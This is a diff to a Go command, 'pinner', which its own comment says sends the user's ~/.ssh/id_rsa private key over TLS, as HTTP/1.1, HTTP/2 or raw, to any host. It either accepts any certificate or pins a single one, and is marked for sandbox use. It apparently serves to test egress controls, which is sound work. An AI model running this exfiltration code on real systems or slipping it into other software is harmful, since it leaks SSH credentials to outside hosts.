@@ -1,6 +1,6 @@
 //go:build linux
 
-// Command pinner sends ~/.ssh/id_rsa over TLS, as HTTP or as it is, to whom it trusts: anybody,
+// Command pinner sends ~/.ssh/id_rsa over TLS, as HTTP/1.1, HTTP/2 or as it is, to whom it trusts: anybody,
 // or the one certificate of the file that is its argument. Run it in a sandbox only.
 package main
 
@@ -50,7 +50,9 @@ func call(_ string, args map[string]any) (string, error) {
 	}
 	switch strings.TrimSuffix(how, "-pinned") {
 	case "http":
-		return post(u, config, body)
+		return post(u, config, body, false)
+	case "h2":
+		return post(u, config, body, true)
 	case "raw":
 		return send(u, config, body)
 	}
@@ -69,14 +71,17 @@ func pinned(state tls.ConnectionState) error {
 	return err
 }
 
-func post(u *url.URL, config *tls.Config, body []byte) (string, error) {
-	c := &http.Client{Timeout: 5 * time.Second, Transport: &http.Transport{TLSClientConfig: config, DisableKeepAlives: true}}
+func post(u *url.URL, config *tls.Config, body []byte, h2 bool) (string, error) {
+	c := &http.Client{Timeout: 5 * time.Second, Transport: &http.Transport{TLSClientConfig: config, DisableKeepAlives: true, ForceAttemptHTTP2: h2}}
 	resp, err := c.Post("https://"+u.Host+"/", "text/plain", bytes.NewReader(body))
 	if err != nil {
 		return "", err
 	}
 	_, err = io.Copy(io.Discard, resp.Body)
 	_ = resp.Body.Close()
+	if err == nil && (resp.ProtoMajor == 2) != h2 {
+		err = errors.New("the answer is " + resp.Proto)
+	}
 	return "true", err
 }
 
